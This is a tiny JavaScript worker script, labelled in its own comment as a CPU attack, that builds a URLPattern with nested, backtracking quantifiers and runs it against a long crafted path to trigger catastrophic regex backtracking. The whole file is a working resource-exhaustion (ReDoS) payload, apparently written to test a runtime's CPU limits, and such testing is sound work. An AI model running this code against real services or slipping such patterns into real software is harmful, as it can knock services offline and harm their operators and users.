// attack: CPU: URLPattern with groups that backtrack, and URLs as long as they come
export default {
  fetch() {
    const pattern = new URLPattern({ pathname: "/:a((?:x+x+)+y)/:b((?:x*)*)*" });
    const path = `/${"x".repeat(35)}/`.repeat(10);
    return Response.json(pattern.exec(new URL(path, "https://hostile.example/")));
  },
};
